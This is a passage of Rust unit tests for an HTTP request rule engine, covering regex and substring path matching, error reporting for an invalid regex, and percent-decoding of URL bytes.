    fn regex_and_anchor() {
        let mut set = RuleSet::new();
        set.insert(Rule::new(
            "re",
            "",
            Filter {
                path: FieldMatch {
                    contains: vec!["/x$".into()],
                    regex: vec![r"(?i)^/v\d+/admin".into()],
                },
                ..Filter::default()
            },
            1,
            1000,
        ));
        let c = CompiledRules::new(&set).expect("compiles");
        let mut s = Scratch::default();
        for (target, hit) in [
            ("/v2/ADMIN", true),
            ("/a/x", true),
            ("/a/x/y", false),
            ("/va/admin", false),
        ] {
            assert_eq!(
                c.evaluate(&rec("GET", target, 200, ""), &mut s) == 1,
                hit,
                "{target}"
            );
        }
    }

    #[test]
    fn bad_regex_names_the_rule() {
        let mut set = RuleSet::new();
        set.insert(Rule::new(
            "broken",
            "",
            Filter {
                query: FieldMatch {
                    contains: vec![],
                    regex: vec!["(".into()],
                },
                ..Filter::default()
            },
            1,
            1000,
        ));
        let err = CompiledRules::new(&set)
            .err()
            .expect("must fail")
            .to_string();
        assert!(
            err.contains("broken") && err.contains("query_regex"),
            "{err}"
        );
    }

    #[test]
    fn decode() {
        let mut out = Vec::new();
        percent_decode(b"/a%2F..%2f?x=a+b%zz%4", Some(7), &mut out);
        assert_eq!(out, b"/a/../?x=a b%zz%4");
        percent_decode(b"a+b", None, &mut out);
        assert_eq!(out, b"a+b");
    }
}
